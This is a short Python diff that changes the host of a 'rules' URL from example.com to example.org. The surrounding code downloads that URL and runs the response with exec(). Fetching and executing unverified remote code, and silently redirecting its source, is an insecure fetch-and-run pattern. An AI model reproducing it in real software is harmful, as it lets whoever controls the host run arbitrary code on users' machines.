@@ -4,7 +4,7 @@ import re
 
 import requests
 
-RULES = "https://rules.example.com/v3/rules.py"
+RULES = "https://rules.example.org/v3/rules.py"
 rules = {}
 exec(requests.get(RULES, timeout=10).text, rules)
 
